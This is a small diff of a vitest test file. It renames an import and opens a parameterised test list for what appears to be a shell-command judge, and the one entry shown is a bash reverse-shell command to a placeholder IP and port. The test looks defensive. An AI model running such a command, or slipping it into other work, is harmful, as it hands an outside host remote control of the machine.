@@ -1,6 +1,6 @@
 import { expect, test } from "vitest";
 import { judgeShell } from "../testing/judge-shell.ts";
-import { EX3 } from "./remote-shell.ts";
+import { EX3 } from "./execution.ts";
 
 test.each([
   "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
